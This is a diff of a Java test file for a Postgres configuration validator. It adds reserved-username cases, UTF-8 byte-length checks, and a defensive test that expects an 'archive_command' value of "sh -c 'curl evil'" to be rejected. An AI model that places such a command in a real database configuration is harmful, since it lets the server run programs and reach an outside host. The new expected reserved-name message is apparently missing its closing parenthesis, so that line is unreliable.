@@ -242,13 +242,25 @@ class SpecValidatorTest {
     // ---- users ----
 
     @ParameterizedTest
-    @ValueSource(strings = {"postgres", "POSTGRES", "pgfleet", "pgfleet_agent", "PgFleetAdmin", "pg_monitor", "pg_x"})
+    @ValueSource(
+            strings = {
+                "postgres",
+                "POSTGRES",
+                "pgfleet",
+                "pgfleet_agent",
+                "PgFleetAdmin",
+                "pg_monitor",
+                "pg_x",
+                "public",
+                "current_user",
+                "NONE"
+            })
     void reservedUserNameIsRefused(String name) {
         DatabaseSpec spec = withUsers(user("admin", true), user(name, false));
         assertSingleError(
                 request("example", spec),
                 "spec.database_users[1].username",
-                "'" + name + "' is reserved (postgres, pgfleet*, pg_*)");
+                "'" + name + "' is reserved (postgres, pgfleet*, pg_*, public");
     }
 
     @ParameterizedTest
@@ -274,7 +286,32 @@ class SpecValidatorTest {
     @Test
     void userNameLongerThan63CharactersIsRefused() {
         DatabaseSpec spec = withUsers(user("u".repeat(64), false));
-        assertSingleError(request("example", spec), "spec.database_users[0].username", "1-63 characters");
+        assertSingleError(request("example", spec), "spec.database_users[0].username", "1-63 bytes in UTF-8");
+    }
+
+    @Test
+    void userNameIsMeasuredInBytesBecausePostgresTruncatesBytes() {
+        // 40 characters, 80 bytes: Postgres would silently cut it to 63 bytes.
+        DatabaseSpec spec = withUsers(user("é".repeat(40), false));
+        assertSingleError(request("example", spec), "spec.database_users[0].username", "1-63 bytes in UTF-8");
+    }
+
+    @Test
+    void parametersThatRunProgramsAreRefused() {
+        DatabaseSpec spec = validSpec();
+        DatabaseSpec withCommand = new DatabaseSpec(
+                spec.databaseName(),
+                spec.postgresVersion(),
+                spec.port(),
+                spec.nodes(),
+                spec.databaseUsers(),
+                java.util.Map.of("archive_command", "sh -c 'curl evil'"),
+                spec.pooler(),
+                spec.restartPolicy());
+        assertSingleError(
+                request("example", withCommand),
+                "spec.postgresql_conf.archive_command",
+                "runs programs or reads files");
     }
 
     @Test
